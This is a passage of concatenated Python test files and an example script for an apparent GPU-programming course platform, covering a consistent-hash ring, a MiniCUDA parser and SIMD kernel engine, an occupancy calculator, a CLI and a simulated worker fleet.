            assert result.kernel_seconds > 0  # it offloaded

    def test_v2_routes_openacc_to_tagged_worker(self):
        from repro.cluster import ManualClock, WorkerConfig
        from repro.core import WebGPU2
        from repro.core.course import CourseOffering

        clock = ManualClock()
        platform = WebGPU2(clock=clock, num_workers=1)  # cuda-only node
        course = platform.create_course(
            CourseOffering(code="598", year=2016), ["openacc-vecadd"])
        lab = get_lab("openacc-vecadd")
        student = platform.users.register("s@x.com", "S", "pw")
        course.enroll(student.user_id)
        platform.save_code("598-2016", student, "openacc-vecadd",
                           lab.solution)
        clock.advance(30)
        attempt = platform.run_attempt("598-2016", student,
                                       "openacc-vecadd")
        assert attempt.status == "failed"  # nobody has the PGI image
        platform.add_worker(WorkerConfig(
            tags=frozenset({"cuda", "openacc"})))
        clock.advance(30)
        attempt = platform.run_attempt("598-2016", student,
                                       "openacc-vecadd")
        assert attempt.correct
