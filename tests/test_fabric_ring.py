"""Consistent-hash ring: balance, minimal remapping, determinism."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.fabric import HashRing, stable_hash

KEYS = [f"course-{c}/lab-{l}" for c in range(40) for l in range(25)]


class TestStableHash:
    def test_stable_across_calls(self):
        assert stable_hash("ece408/vector-add") == \
            stable_hash("ece408/vector-add")

    def test_64_bit_range(self):
        for key in KEYS[:50]:
            assert 0 <= stable_hash(key) < 2 ** 64

    def test_distinct_keys_distinct_hashes(self):
        hashes = {stable_hash(k) for k in KEYS}
        assert len(hashes) == len(KEYS)


class TestHashRing:
    def test_empty_ring_refuses_lookup(self):
        with pytest.raises(RuntimeError):
            HashRing().shard_for("k")

    def test_vnodes_validated(self):
        with pytest.raises(ValueError):
            HashRing(("a",), vnodes=0)

    def test_duplicate_add_rejected(self):
        ring = HashRing(("a",))
        with pytest.raises(ValueError):
            ring.add("a")

    def test_remove_unknown_rejected(self):
        with pytest.raises(KeyError):
            HashRing(("a",)).remove("b")

    def test_deterministic_assignment(self):
        one = HashRing(tuple(f"s{i}" for i in range(8)))
        two = HashRing(tuple(f"s{i}" for i in range(8)))
        assert one.assignments(KEYS) == two.assignments(KEYS)

    def test_insertion_order_irrelevant(self):
        names = [f"s{i}" for i in range(6)]
        fwd = HashRing(tuple(names))
        rev = HashRing(tuple(reversed(names)))
        assert fwd.assignments(KEYS) == rev.assignments(KEYS)

    def test_reasonable_balance(self):
        ring = HashRing(tuple(f"s{i}" for i in range(8)))
        load = ring.load(KEYS)
        expected = len(KEYS) / 8
        assert all(count > 0 for count in load.values())
        # vnode hashing is not perfect, but no shard should carry more
        # than ~2.5x or less than ~0.3x its fair share
        assert max(load.values()) < expected * 2.5
        assert min(load.values()) > expected * 0.3

    def test_add_remaps_about_one_nth(self):
        ring = HashRing(tuple(f"s{i}" for i in range(8)))
        before = ring.assignments(KEYS)
        ring.add("s8")
        after = ring.assignments(KEYS)
        moved = [k for k in KEYS if before[k] != after[k]]
        # ~K/9 keys should move; allow generous slack for hash variance
        assert len(moved) < len(KEYS) / 9 * 2.5
        # and every moved key moves TO the new shard, never laterally
        assert all(after[k] == "s8" for k in moved)

    def test_remove_remaps_only_lost_shard(self):
        ring = HashRing(tuple(f"s{i}" for i in range(8)))
        before = ring.assignments(KEYS)
        ring.remove("s3")
        after = ring.assignments(KEYS)
        moved = [k for k in KEYS if before[k] != after[k]]
        # exactly the removed shard's keys move, nothing else
        assert set(moved) == {k for k in KEYS if before[k] == "s3"}
        assert all(after[k] != "s3" for k in KEYS)

    def test_membership_and_len(self):
        ring = HashRing(("a", "b"))
        assert len(ring) == 2 and "a" in ring and "c" not in ring
        ring.remove("a")
        assert len(ring) == 1 and "a" not in ring

    def test_preference_lists_distinct_shards(self):
        ring = HashRing(tuple(f"s{i}" for i in range(5)))
        for key in KEYS[:100]:
            pref = ring.preference(key, n=3)
            assert len(pref) == 3
            assert len(set(pref)) == 3
            assert pref[0] == ring.shard_for(key)

    def test_preference_capped_by_ring_size(self):
        ring = HashRing(("a", "b"))
        assert sorted(ring.preference("k", n=10)) == ["a", "b"]


_shard_sets = st.sets(
    st.text(alphabet="abcdefgh0123456789", min_size=1, max_size=8),
    min_size=1, max_size=6)


class TestPreferenceProperties:
    """Hypothesis sweep over small rings: ``preference`` must always
    return distinct shards, lead with the key's owner, and cap at the
    physical shard count no matter how many failovers are asked for."""

    @settings(max_examples=60, deadline=None)
    @given(shards=_shard_sets, key=st.text(max_size=16),
           n=st.integers(min_value=1, max_value=12))
    def test_distinct_primary_first_and_capped(self, shards, key, n):
        ring = HashRing(tuple(sorted(shards)), vnodes=4)
        pref = ring.preference(key, n=n)
        assert len(pref) == len(set(pref)) == min(n, len(shards))
        assert pref[0] == ring.shard_for(key)
        assert set(pref) <= set(shards)

    @settings(max_examples=40, deadline=None)
    @given(shards=_shard_sets, key=st.text(max_size=16))
    def test_oversized_n_returns_every_shard(self, shards, key):
        ring = HashRing(tuple(sorted(shards)), vnodes=4)
        assert sorted(ring.preference(key, n=len(shards) + 5)) == \
            sorted(shards)

    @settings(max_examples=40, deadline=None)
    @given(shards=_shard_sets, key=st.text(max_size=16),
           n=st.integers(min_value=1, max_value=12))
    def test_stable_across_equivalent_rings(self, shards, key, n):
        fwd = HashRing(tuple(sorted(shards)), vnodes=4)
        rev = HashRing(tuple(reversed(sorted(shards))), vnodes=4)
        assert fwd.preference(key, n=n) == rev.preference(key, n=n)
