"""Differential tests: generated packrat parser vs the legacy oracle.

Every source in the golden corpus (``examples/cuda/*.cu`` plus every
lab skeleton, solution, and mutation) must parse to a byte-identical
AST repr under both backends, and every snippet in the malformed
corpus must raise a CompileError with the same message and position.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.labs import ALL_LABS, EXTRA_LABS
from repro.labs.mutations import MUTATIONS, buggy_source
from repro.minicuda.diagnostics import CompileError
from repro.minicuda.compiler import EXTRA_TYPEDEFS
from repro.minicuda.lexer import tokenize
from repro.minicuda.parser import DEFAULT_TYPEDEFS, Parser, parse
from repro.minicuda.parser_gen import MiniCudaParser
from repro.minicuda.preprocessor import Preprocessor

TYPEDEFS = frozenset(DEFAULT_TYPEDEFS) | EXTRA_TYPEDEFS

EXAMPLES = sorted((Path(__file__).parent.parent / "examples" / "cuda")
                  .glob("*.cu"))


def _golden_corpus() -> list[tuple[str, str]]:
    corpus = [(p.name, p.read_text()) for p in EXAMPLES]
    for lab in ALL_LABS + EXTRA_LABS:
        corpus.append((f"{lab.slug}:skeleton", lab.skeleton))
        corpus.append((f"{lab.slug}:solution", lab.solution))
    for mutation in MUTATIONS:
        corpus.append((f"mutation:{mutation.name}", buggy_source(mutation)))
    return corpus


GOLDEN = _golden_corpus()


def _outcome(source: str, backend: type) -> tuple[str, str]:
    """(kind, payload) for one backend: AST repr or error string."""
    try:
        toks = tokenize(source)
    except CompileError as exc:
        return ("lexerr", str(exc))
    try:
        unit = backend(toks, TYPEDEFS).parse_translation_unit()
        return ("ok", repr(unit))
    except CompileError as exc:
        return ("err", str(exc))


@pytest.mark.parametrize("name,source", GOLDEN,
                         ids=[name for name, _ in GOLDEN])
def test_golden_corpus_identical_ast(name, source):
    text = Preprocessor().process(source)
    legacy = _outcome(text, Parser)
    pegen = _outcome(text, MiniCudaParser)
    assert legacy == pegen
    assert legacy[0] == "ok", f"{name} failed to parse: {legacy[1]}"


#: Malformed sources covering every error raise in the legacy parser:
#: forced-token misses, missing identifiers/types, unexpected tokens,
#: EOF inside block/switch, do-without-while, switch validation, array
#: dimension folding, launch punctuation, and initializer lists.
MALFORMED = [
    "int",
    "int ;",
    "42;",
    "int x",
    "void f( {}",
    "void f(int a {}",
    "void f() { int; }",
    "void f() { x = ; }",
    "void f() { if x; }",
    "void f() { if (x { } }",
    "void f() { while }",
    "void f() { do x = 1; (x); }",
    "void f() { do x = 1; }",
    "void f() { for (;; }",
    "void f() { for ( }",
    "void f() {",
    "void f() { switch (x) {",
    "void f() { switch (x) { y = 1; } }",
    "void f() { switch (x) { case y: ; } }",
    "void f() { switch (x) { case 1: ; case 1: ; } }",
    "void f() { switch (x) { default: ; default: ; } }",
    "void f() { switch (x) { case 1 } }",
    "void f() { int a[n]; }",
    "void f(int a[n]) {}",
    "void f() { a? }",
    "void f() { a ? b; }",
    "void f() { x = a[; }",
    "void f() { x = a[1; }",
    "void f() { x.; }",
    "void f() { x->3; }",
    "void f() { sizeof; }",
    "void f() { sizeof(x); }",
    "void f() { (int x; }",
    "void f() { dim3; }",
    "void f() { k<<<g>>>(); }",
    "void f() { k<<<g, b(); }",
    "void f() { k<<<g, b>>>; }",
    "void f() { f(a; }",
    "void f() { int x = {1, {2}; }",
    "void f() { int x = ; }",
    "void f() { return }",
    "void f() { break }",
    "void f() { continue; } }",
    "int a = 5 int b;",
    "const; ",
    "void f() { const; }",
    "void f() { x = (1 + ; }",
    "void f() { int a, ; }",
    "void f() { else; }",
    "struct s;",
    "void f() { ++; }",
    "long long long x;",
    "short short x;",
]


@pytest.mark.parametrize("source", MALFORMED)
def test_malformed_corpus_identical_errors(source):
    legacy = _outcome(source, Parser)
    pegen = _outcome(source, MiniCudaParser)
    assert legacy == pegen
    assert legacy[0] != "ok", f"expected a parse error for {source!r}"


def test_malformed_positions_match_exactly():
    """str() parity above covers line:col; spot-check the SourcePos."""
    for source in ("void f() { if x; }", "void f() { int a[n]; }"):
        positions = []
        for backend in (Parser, MiniCudaParser):
            with pytest.raises(CompileError) as exc:
                backend(tokenize(source),
                        TYPEDEFS).parse_translation_unit()
            positions.append(exc.value.diagnostics[0].pos)
        assert positions[0] == positions[1]


def test_quirky_but_legal_sources():
    """Legacy accepts these; the generated parser must too."""
    for source in (
        "void f() { int a[2] = {1 2}; }",      # missing comma tolerated
        "void f() { x = y ++ ++; }",           # chained postfix
        "void f() { float *a, b, **c; }",
        "const int * const * __restrict__ p;",
        "unsigned char c; signed char d; unsigned long e; long int g;",
        "void f(float m[32][32], int n[]) {}",
        "int f(void, int b);",
        "void f() { k<<<g, b, 1024>>>(x); k<<<g, b, 0, s>>>(y); }",
    ):
        legacy = _outcome(source, Parser)
        pegen = _outcome(source, MiniCudaParser)
        assert legacy == pegen


def test_parse_dispatch_env(monkeypatch):
    source = "int x = 1;"
    monkeypatch.setenv("WEBGPU_PARSER", "legacy")
    legacy = parse(source)
    monkeypatch.setenv("WEBGPU_PARSER", "pegen")
    pegen = parse(source)
    monkeypatch.delenv("WEBGPU_PARSER")
    assert repr(legacy) == repr(pegen)
    with pytest.raises(ValueError):
        parse(source, backend="nonesuch")


def test_parse_records_telemetry():
    from repro.telemetry import PARSE_SECONDS, PARSER_MEMO_TOTAL, Telemetry

    telemetry = Telemetry()
    parse("int main() { return 1 + 2 * 3; }", backend="pegen",
          telemetry=telemetry)
    histogram = telemetry.metrics.get(PARSE_SECONDS)
    assert histogram.merged(backend="pegen").count == 1
    memo = telemetry.metrics.counter(PARSER_MEMO_TOTAL)
    assert memo.value(backend="pegen", outcome="miss") > 0


# -- property-based round trip -------------------------------------------

_idents = st.sampled_from(("a", "b", "n", "acc", "tmp"))
_ints = st.integers(min_value=0, max_value=1 << 20).map(str)
_atoms = st.one_of(_idents, _ints, st.just("3.5f"), st.just("'x'"),
                   st.just("0xFFu"))


@st.composite
def _exprs(draw, depth=3):
    if depth == 0:
        return draw(_atoms)
    kind = draw(st.integers(min_value=0, max_value=5))
    if kind == 0:
        return draw(_atoms)
    left = draw(_exprs(depth=depth - 1))
    right = draw(_exprs(depth=depth - 1))
    if kind == 1:
        op = draw(st.sampled_from(("+", "-", "*", "/", "%", "<<", ">>",
                                   "<", "<=", "==", "&&", "|", "^")))
        return f"({left} {op} {right})"
    if kind == 2:
        return f"(-{left})"
    if kind == 3:
        return f"({left} ? {right} : {left})"
    if kind == 4:
        return f"a[{left}]"
    return f"f({left}, {right})"


@st.composite
def _programs(draw):
    body = []
    for _ in range(draw(st.integers(min_value=1, max_value=4))):
        stmt = draw(st.integers(min_value=0, max_value=3))
        expr = draw(_exprs())
        if stmt == 0:
            body.append(f"int v = {expr};")
        elif stmt == 1:
            body.append(f"x = {expr};")
        elif stmt == 2:
            body.append(f"if ({expr}) y = {expr}; else y = 0;")
        else:
            body.append(f"for (int i = 0; i < 4; i++) s += {expr};")
    return "void f() { " + " ".join(body) + " }"


@settings(max_examples=60, deadline=None)
@given(_programs())
def test_fuzz_backends_agree(source):
    assert _outcome(source, Parser) == _outcome(source, MiniCudaParser)
