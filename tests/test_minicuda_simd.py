"""The warp-SIMD kernel engine: predication, fallback, fault parity.

The ``simd`` engine lowers eligible kernels to numpy array programs
that execute a whole warp per instruction, predicating divergent
control flow with lane masks. These tests pin the contract the engine
must keep with the tree-walking oracle: bit-identical outputs, stats,
and fault messages — and a memoized, never-failing fallback to the
scalar codegen tier for ineligible kernels.
"""

from __future__ import annotations

import math

import numpy as np
import pytest

from repro.gpusim import Device, GpuRuntime
from repro.gpusim.errors import InvalidPointerError
from repro.gpusim.grid import Dim3
from repro.minicuda import compile_source
from repro.minicuda.simd import CompiledSimdKernel, compile_kernel
from repro.minicuda.srcgen import CompiledSrcKernel
from repro.minicuda.values import f32
from repro.telemetry import Telemetry, WARP_ACTIVE_LANE_RATIO
from repro.telemetry.metrics import MetricsRegistry, merge_registries

ENGINES = ("ast", "closure", "codegen", "simd")

STAT_FIELDS = (
    "blocks", "threads", "warps", "instructions",
    "global_load_requests", "global_store_requests",
    "global_load_transactions", "global_store_transactions",
    "bytes_read", "bytes_written", "shared_accesses", "bank_conflicts",
    "atomic_ops", "max_atomic_contention", "max_shared_atomic_contention",
    "barriers",
)


def run_kernel(source, kernel, grid, block, arrays, scalars, engine):
    """Compile + launch; returns (output arrays, stats)."""
    program = compile_source(source)
    rt = GpuRuntime(Device())
    bufs = []
    for arr in arrays:
        buf = rt.malloc(int(arr.size), arr.dtype)
        rt.memcpy_htod(buf, arr)
        bufs.append(buf)
    args = [b.ptr() for b in bufs] + list(scalars)
    stats = program.launch(rt, kernel, grid, block, *args, engine=engine)
    return [rt.memcpy_dtoh(b) for b in bufs], stats


def assert_engines_identical(source, kernel, grid, block, arrays, scalars):
    """All four engines must agree on outputs and every counter."""
    outs_ast, stats_ast = run_kernel(source, kernel, grid, block,
                                     arrays, scalars, "ast")
    for engine in ENGINES[1:]:
        outs, stats = run_kernel(source, kernel, grid, block,
                                 arrays, scalars, engine)
        for a, b in zip(outs_ast, outs):
            assert np.array_equal(a, b), engine
        for fld in STAT_FIELDS:
            assert getattr(stats_ast, fld) == getattr(stats, fld), \
                (engine, fld)
    return outs_ast, stats_ast


def fault_of(source, kernel, grid, block, arrays, scalars, engine):
    """(exception class name, message) a faulting launch raises.
    Anonymous allocation labels (allocN) count up globally across
    runtimes, so they are normalized out of the comparison."""
    import re
    with pytest.raises(Exception) as excinfo:
        run_kernel(source, kernel, grid, block, arrays, scalars, engine)
    message = re.sub(r"\balloc\d+\b", "alloc", str(excinfo.value))
    return type(excinfo.value).__name__, message


class TestPredication:
    def test_divergent_if_else_matches_oracle(self):
        source = """
__global__ void branchy(int *out, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) {
    if (i % 3 == 0) {
      out[i] = i * i;
    } else if (i % 3 == 1) {
      out[i] = -i;
    } else {
      out[i] = i / 2;
    }
  }
}
int main() { return 0; }
"""
        outs, stats = assert_engines_identical(
            source, "branchy", 2, 32, [np.zeros(60, np.int32)], [60])
        assert list(outs[0][:4]) == [0, -1, 1, 9]
        assert stats.instructions > 0

    def test_varying_trip_counts(self):
        # each lane loops threadIdx.x times: per-lane retirement
        source = """
__global__ void tri(int *out) {
  int acc = 0;
  for (int k = 0; k < threadIdx.x; k++) {
    acc += k;
  }
  out[threadIdx.x] = acc;
}
int main() { return 0; }
"""
        outs, _ = assert_engines_identical(
            source, "tri", 1, 32, [np.zeros(32, np.int32)], [])
        assert [int(v) for v in outs[0]] == \
            [t * (t - 1) // 2 for t in range(32)]

    def test_break_continue_and_early_return(self):
        source = """
__global__ void jumps(int *out, int n) {
  int i = threadIdx.x;
  if (i >= n) return;
  int acc = 0;
  for (int k = 0; k < 20; k++) {
    if (k == i) continue;
    if (k > i + 5) break;
    acc += k;
  }
  out[i] = acc;
}
int main() { return 0; }
"""
        assert_engines_identical(
            source, "jumps", 1, 32, [np.zeros(24, np.int32)], [24])

    def test_while_and_dowhile_divergence(self):
        source = """
__global__ void collatz(int *out) {
  int v = threadIdx.x + 1;
  int steps = 0;
  while (v != 1) {
    if (v % 2 == 0) { v = v / 2; } else { v = 3 * v + 1; }
    steps++;
  }
  do { steps++; } while (steps < 0);
  out[threadIdx.x] = steps;
}
int main() { return 0; }
"""
        assert_engines_identical(
            source, "collatz", 1, 32, [np.zeros(32, np.int32)], [])


class TestBarrierKernels:
    def test_uniform_loop_with_barriers(self):
        source = """
__global__ void reduce(float *in, float *out) {
  __shared__ float scratch[64];
  int tid = threadIdx.x;
  scratch[tid] = in[blockIdx.x * blockDim.x + tid];
  __syncthreads();
  for (int s = blockDim.x / 2; s > 0; s = s / 2) {
    if (tid < s) scratch[tid] += scratch[tid + s];
    __syncthreads();
  }
  if (tid == 0) out[blockIdx.x] = scratch[0];
}
int main() { return 0; }
"""
        data = (np.arange(128, dtype=np.float32) % 11)
        outs, stats = assert_engines_identical(
            source, "reduce", 2, 64, [data, np.zeros(2, np.float32)], [])
        expected = [float(data[:64].sum()), float(data[64:].sum())]
        assert [float(v) for v in outs[1]] == expected
        assert stats.barriers > 0

    def test_shared_md_tile_bank_conflicts(self):
        # column-major reads of a 2-D shared tile conflict on banks;
        # the simd engine must charge the identical replay count
        source = """
__global__ void tile(float *out) {
  __shared__ float t[32][32];
  int x = threadIdx.x;
  t[x][0] = x * 1.0f;
  __syncthreads();
  out[x] = t[x][0] + t[0][x];
}
int main() { return 0; }
"""
        _, stats = assert_engines_identical(
            source, "tile", 1, 32, [np.zeros(32, np.float32)], [])
        assert stats.shared_accesses > 0


class TestFallbackLadder:
    def test_printf_kernel_falls_back_to_codegen(self):
        source = """
__global__ void shout(int *out) {
  printf("lane %d\\n", threadIdx.x);
  out[threadIdx.x] = threadIdx.x;
}
int main() { return 0; }
"""
        program = compile_source(source)
        compiled = compile_kernel(program.info, "shout")
        assert isinstance(compiled, CompiledSrcKernel)
        # the verdict is memoized on the program info
        assert compile_kernel(program.info, "shout") is compiled
        # and the launch still works (scalar tier executes it)
        outs, _ = run_kernel(source, "shout", 1, 8,
                             [np.zeros(8, np.int32)], [], "simd")
        assert [int(v) for v in outs[0]] == list(range(8))

    def test_eligible_kernel_compiles_to_simd(self):
        source = """
__global__ void axpy(float *x, float *y, float a, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) y[i] = a * x[i] + y[i];
}
int main() { return 0; }
"""
        program = compile_source(source)
        compiled = compile_kernel(program.info, "axpy")
        assert isinstance(compiled, CompiledSimdKernel)
        assert compile_kernel(program.info, "axpy") is compiled


class TestFaultParity:
    @pytest.mark.parametrize("body,args", [
        ("out[threadIdx.x + 100] = 1;", 1),      # global OOB
        ("__shared__ int s[8]; s[threadIdx.x + 20] = 1; out[0] = s[0];",
         1),                                      # shared OOB
        ("int loc[4]; loc[threadIdx.x + 9] = 1; out[0] = loc[0];",
         1),                                      # local OOB
        ("__shared__ int m[4][4]; m[threadIdx.x + 7][0] = 1; "
         "out[0] = m[0][0];", 1),                 # md OOB
        ("int z = 0; out[threadIdx.x] = 5 / z;", 1),  # div by zero
        ("int z = 0; out[threadIdx.x] = 5 % z;", 1),  # mod by zero
    ])
    def test_fault_messages_bit_identical(self, body, args):
        source = f"""
__global__ void boom(int *out) {{
  {body}
}}
int main() {{ return 0; }}
"""
        arrays = [np.zeros(8, np.int32)]
        ref = fault_of(source, "boom", 1, 4, arrays, [], "ast")
        got = fault_of(source, "boom", 1, 4, arrays, [], "simd")
        assert got == ref


class TestF32Helper:
    CASES = [
        0.0, -0.0, 1.0, -1.5, 0.1, 1/3,
        2.0 ** -149,            # smallest positive subnormal
        2.0 ** -149 * 0.4,      # rounds to zero
        2.0 ** -126,            # smallest normal
        1.0 + 2.0 ** -24,       # round-to-nearest-even boundary
        1.0 + 2.0 ** -23,
        3.4028235e38,           # largest finite f32
        3.5e38, 1e39, -1e39,    # overflow to +/-inf
        6.1e-5, 65504.0, 1e-45,
        float("inf"), float("-inf"),
    ]

    @pytest.mark.parametrize("value", CASES)
    def test_matches_numpy_float32(self, value):
        with np.errstate(over="ignore"):  # overflow-to-inf is the point
            expect = float(np.float32(value))
            chain = float(np.array([value]).astype(np.float32)
                          .astype(np.float64)[0])
        got = f32(value)
        assert got == expect or (math.isnan(got) and math.isnan(expect))
        # the astype chain the simd engine uses must agree too
        assert chain == expect or (math.isnan(chain)
                                   and math.isnan(expect))

    def test_nan_passthrough(self):
        assert math.isnan(f32(float("nan")))

    def test_int_inputs(self):
        assert f32(16777217) == float(np.float32(16777217))  # 2**24 + 1


class TestAsNdarray:
    def test_zero_copy_view(self):
        rt = GpuRuntime(Device())
        buf = rt.malloc(8, np.float32)
        view = buf.as_ndarray()
        view[3] = 42.0
        assert buf.read(3) == 42.0
        rt.memcpy_htod(buf, np.arange(8, dtype=np.float32))
        assert view[3] == 3.0  # same storage, no copy

    def test_freed_buffer_faults(self):
        rt = GpuRuntime(Device())
        buf = rt.malloc(4, np.float32)
        rt.free(buf)
        with pytest.raises(InvalidPointerError):
            buf.as_ndarray()
        with pytest.raises(InvalidPointerError):
            rt.memset(buf, 0)


class TestLaneOccupancyGauge:
    SRC = """
__global__ void half(int *out, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) { out[i] = i; } else { out[0] = out[0]; }
}
int main() { return 0; }
"""

    def _ratio(self, n):
        tel = Telemetry()
        rt = GpuRuntime(Device(), telemetry=tel)
        program = compile_source(self.SRC)
        out = rt.malloc(64, "int")
        program.launch(rt, "half", 2, 32, out.ptr(), n, engine="simd")
        hist = tel.metrics.histogram(WARP_ACTIVE_LANE_RATIO)
        series = hist.merged(kernel="half")
        assert series.count == 1
        return series.max

    def test_divergence_free_kernel_is_full(self):
        assert self._ratio(64) == 1.0

    def test_divergent_kernel_reports_masked_lanes(self):
        ratio = self._ratio(40)
        assert 0.0 < ratio < 1.0

    def test_scalar_engines_do_not_emit(self):
        tel = Telemetry()
        rt = GpuRuntime(Device(), telemetry=tel)
        program = compile_source(self.SRC)
        out = rt.malloc(64, "int")
        program.launch(rt, "half", 2, 32, out.ptr(), 64, engine="codegen")
        hist = tel.metrics.histogram(WARP_ACTIVE_LANE_RATIO)
        assert not hist._series

    def test_fleet_merge_keeps_distribution(self):
        # regression: as a gauge this merged by sum — two workers both
        # at 1.0 produced a fleet "ratio" of 2.0 and the second
        # worker's value clobbered nothing but meant nothing either.
        # As a histogram the merge adds bucket counts, so the fleet
        # view keeps every launch's ratio.
        workers = [MetricsRegistry(), MetricsRegistry()]
        for registry in workers:
            registry.histogram(WARP_ACTIVE_LANE_RATIO).observe(
                1.0, kernel="half")
        fleet = merge_registries(workers)
        series = fleet.get(WARP_ACTIVE_LANE_RATIO).merged(kernel="half")
        assert series.count == 2
        assert series.max == 1.0
        assert series.mean == 1.0


class TestNumericParity:
    def test_f32_accumulation_matches(self):
        # float-typed accumulation forces binary32 round-trips per op
        source = """
__global__ void sum3(float *a, float *out, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) {
    float acc = 0.0f;
    acc += a[i] * 0.3f;
    acc += a[i] / 7.0f;
    acc -= 0.1f;
    out[i] = acc;
  }
}
int main() { return 0; }
"""
        data = (np.arange(48, dtype=np.float32) * 0.7 + 0.01).astype(
            np.float32)
        assert_engines_identical(
            source, "sum3", 2, 32, [data, np.zeros(48, np.float32)], [48])

    def test_atomics_parity(self):
        source = """
__global__ void vote(int *in, int *bins, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) atomicAdd(&bins[in[i] % 4], 1);
}
int main() { return 0; }
"""
        data = ((np.arange(50, dtype=np.int32) * 7) % 13).astype(np.int32)
        outs, stats = assert_engines_identical(
            source, "vote", 2, 32, [data, np.zeros(4, np.int32)], [50])
        assert int(outs[1].sum()) == 50
        assert stats.atomic_ops == 50
