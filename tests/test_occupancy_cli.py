"""Occupancy calculator and the command-line interface."""

import pytest

from repro.cli import main
from repro.gpusim import Device, DeviceSpec, LaunchConfigError


class TestOccupancy:
    def test_full_occupancy_at_256(self):
        report = Device().occupancy(256)
        # 2048 threads/SM / 256 = 8 blocks, 64/64 warps
        assert report.active_blocks_per_sm == 8
        assert report.occupancy == 1.0

    def test_small_blocks_limited_by_block_slots(self):
        report = Device().occupancy(32)
        assert report.active_blocks_per_sm == 16  # the block-slot cap
        assert report.limiter == "blocks"
        assert report.occupancy == pytest.approx(16 * 1 / 64)

    def test_shared_memory_limits_residency(self):
        report = Device().occupancy(256, shared_bytes_per_block=24 * 1024)
        assert report.active_blocks_per_sm == 2  # 48KB SM / 24KB
        assert report.limiter == "shared_memory"
        assert report.occupancy == pytest.approx(0.25)

    def test_big_blocks_limited_by_threads(self):
        report = Device().occupancy(1024)
        assert report.active_blocks_per_sm == 2
        assert report.occupancy == 1.0  # 2 x 32 warps = 64

    def test_invalid_inputs(self):
        with pytest.raises(LaunchConfigError):
            Device().occupancy(4096)
        with pytest.raises(LaunchConfigError):
            Device().occupancy(128, shared_bytes_per_block=10**6)

    def test_occupancy_tradeoff_story(self):
        """The course's tiling trade-off: a bigger tile means more
        shared memory per block and can cost occupancy."""
        device = Device()
        small_tile = device.occupancy(64, shared_bytes_per_block=2 * 4 * 64)
        big_tile = device.occupancy(1024,
                                    shared_bytes_per_block=2 * 4 * 1024)
        assert small_tile.active_blocks_per_sm > big_tile.active_blocks_per_sm


class TestCli:
    def test_list_labs(self, capsys):
        assert main(["list-labs"]) == 0
        out = capsys.readouterr().out
        assert "Vector Addition" in out and "PUMPS" in out
        assert "openacc-vecadd" in out  # extension section

    def test_show_lab(self, capsys):
        assert main(["show-lab", "tiled-matmul"]) == 0
        out = capsys.readouterr().out
        assert "Tiled Matrix Multiplication" in out
        assert "rubric" in out

    def test_show_lab_with_skeleton(self, capsys):
        assert main(["show-lab", "vector-add", "--skeleton"]) == 0
        assert "Insert code" in capsys.readouterr().out

    def test_run_lab_reference_solution(self, capsys):
        assert main(["run-lab", "vector-add", "--dataset", "0",
                     "--profile"]) == 0
        out = capsys.readouterr().out
        assert "PASS" in out and "ld_tx=" in out

    def test_run_lab_failing_source(self, tmp_path, capsys):
        from repro.labs import get_lab
        lab = get_lab("vector-add")
        wrong = lab.solution.replace("in1[i] + in2[i]", "in1[i]")
        path = tmp_path / "wrong.cu"
        path.write_text(wrong)
        assert main(["run-lab", "vector-add", "--source", str(path),
                     "--dataset", "0"]) == 1
        assert "FAIL" in capsys.readouterr().out

    def test_run_lab_compile_error(self, tmp_path, capsys):
        path = tmp_path / "broken.cu"
        path.write_text("int main( { return 0; }")
        assert main(["run-lab", "vector-add", "--source", str(path)]) == 2
        assert "COMPILE ERROR" in capsys.readouterr().out

    def test_funnel(self, capsys):
        assert main(["funnel"]) == 0
        out = capsys.readouterr().out
        assert "HPP 2013" in out and "7.4" in out

    def test_occupancy(self, capsys):
        assert main(["occupancy", "256", "--shared", "24576"]) == 0
        out = capsys.readouterr().out
        assert "25%" in out and "shared_memory" in out
