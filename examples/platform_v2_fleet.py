"""WebGPU 2.0: a heterogeneous PUMPS-style fleet in action.

Demonstrates the Figure 6/7 machinery: requirement-tagged labs routed
through the message broker to matching pull workers, a uniform config
change restarting every driver, a broker zone failure that loses no
jobs, and the administrator dashboard.

Run: python examples/platform_v2_fleet.py
"""

from repro import CourseOffering, WebGPU2, get_lab
from repro.cluster import ManualClock, WorkerConfig


def main() -> None:
    clock = ManualClock()
    gpu = WebGPU2(clock=clock, num_workers=0,
                  zones=("us-east-1a", "us-east-1b"))

    # a mixed fleet: two cheap CUDA nodes, one big node with OpenCL,
    # MPI, and four GPUs (jobs tag-match; no node needs everything)
    gpu.add_worker(WorkerConfig(tags=frozenset({"cuda"})),
                   zone="us-east-1a")
    gpu.add_worker(WorkerConfig(tags=frozenset({"cuda"})),
                   zone="us-east-1b")
    gpu.add_worker(WorkerConfig(tags=frozenset({"cuda", "opencl", "mpi"}),
                                num_gpus=4), zone="us-east-1b")

    course = gpu.create_course(
        CourseOffering(code="PUMPS", year=2015),
        ["vector-add", "opencl-vecadd", "mpi-stencil"])
    attendee = gpu.users.register("attendee@upc.edu", "Attendee", "pw")
    course.enroll(attendee.user_id)

    print("fleet capabilities:")
    for driver in gpu.drivers:
        print(f"  {driver.worker.name} ({driver.zone}): "
              f"{', '.join(sorted(driver.capabilities))}, "
              f"{driver.worker.config.num_gpus} GPU(s)")

    # --- run one lab per toolchain ---------------------------------------
    for slug in ("vector-add", "opencl-vecadd", "mpi-stencil"):
        lab = get_lab(slug)
        gpu.save_code("PUMPS-2015", attendee, slug, lab.solution)
        clock.advance(120)
        attempt = gpu.run_attempt("PUMPS-2015", attendee, slug)
        print(f"\n{lab.title}: correct={attempt.correct} "
              f"on worker {attempt.worker} "
              f"(requires {sorted(lab.requirements) or ['cuda']})")

    # --- push a uniform config change to the whole fleet ------------------
    print("\noperator: raising warm containers per image to 2 ...")
    gpu.config_server.update(warm_containers_per_image=2)
    gpu.pump()  # next poll applies it
    restarts = [d.stats.restarts for d in gpu.drivers]
    print(f"driver restarts after config push: {restarts}")

    # --- a broker zone dies mid-deadline ----------------------------------
    print("\nzone us-east-1a broker fails; submissions keep working:")
    gpu.broker.fail_zone("us-east-1a")
    clock.advance(120)
